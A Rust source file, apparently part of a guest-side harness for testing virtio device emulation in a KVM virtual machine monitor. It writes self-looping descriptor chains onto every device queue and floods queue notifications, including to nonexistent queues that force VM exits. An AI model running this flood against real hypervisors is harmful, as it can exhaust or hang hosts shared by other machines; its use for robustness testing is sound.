//! Phase (c): notifications in a tight loop, each one with a looping chain made available, on
//! every queue of every device (KVM's ioeventfds take the valid ones without a VM exit), mixed
//! with notifications of queues that do not exist (each a VM exit into the VMM).

use std::time::{Duration, Instant};

use crate::chains::Attack;
use crate::virtio::*;

/// Floods for `duration`; returns the number of QueueNotify writes.
pub fn flood(attacks: &mut [Attack<'_>], duration: Duration) -> u64 {
    for a in attacks.iter_mut() {
        a.bring_up();
        for q in &a.queues {
            // d0 -> d1 -> d0.
            q.write_desc(a.own, 0, a.own.phys, 16, DESC_NEXT, 1);
            q.write_desc(a.own, 1, a.own.phys, 16, DESC_NEXT, 0);
        }
    }
    let start = Instant::now();
    let mut n = 0u64;
    while start.elapsed() < duration {
        for _ in 0..256 {
            for a in attacks.iter_mut() {
                for qi in 0..a.queues.len() {
                    let q = &mut a.queues[qi];
                    // Within the ring: the device keeps walking loops. (Past it, it would
                    // only refuse the index, which the chain tests do.)
                    if q.avail_idx.wrapping_sub(q.used_idx(a.own)) < q.size - 1 {
                        q.publish(a.own, 0);
                        a.chains += 1;
                    }
                    a.dev.notify(qi as u32);
                    n += 1;
                }
                if n % 16 == 0 {
                    a.dev.notify(0xffff);
                    a.dev.write(INTERRUPT_ACK, a.dev.read(INTERRUPT_STATUS));
                    n += 1;
                }
            }
        }
    }
    n
}
